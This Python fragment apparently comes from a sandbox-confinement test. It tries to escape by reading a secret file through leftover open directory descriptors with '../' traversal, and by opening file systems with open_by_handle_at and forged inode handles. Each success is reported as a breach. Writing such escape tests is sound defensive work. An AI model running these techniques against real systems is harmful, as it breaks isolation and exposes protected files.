"""Climbs out by any folder that was left open, and by open_by_handle_at."""

import stat

for fd in range(1024):
    try:
        found = os.fstat(fd)
    except OSError:
        continue
    if stat.S_ISDIR(found.st_mode):
        for up in range(0, 20):
            path = "../" * up + TARGET["secret"].lstrip("/")
            try:
                got = os.open(path, os.O_RDONLY, dir_fd=fd)
                os.write(1, os.read(got, 1000))
            except OSError:
                pass
        quietly(lambda fd=fd: os.open(TARGET["mark"], os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        if fd > 2:
            breach(f"descriptor {fd} is a folder")
for path in (".", "/", "/usr", "/etc", "/dev"):
    fd = quietly(os.open, path, os.O_RDONLY)
    for inode in (2, 128, 256):
        handle = struct.pack("<IiQQ", 8, 1, inode, 0)
        found, _ = syscall("open_by_handle_at", fd if fd is not None else -100, ctypes.c_char_p(handle), 0)
        if found >= 0:
            breach(f"opened inode {inode} of {path}'s file system by its number")
            print(os.listdir(found))
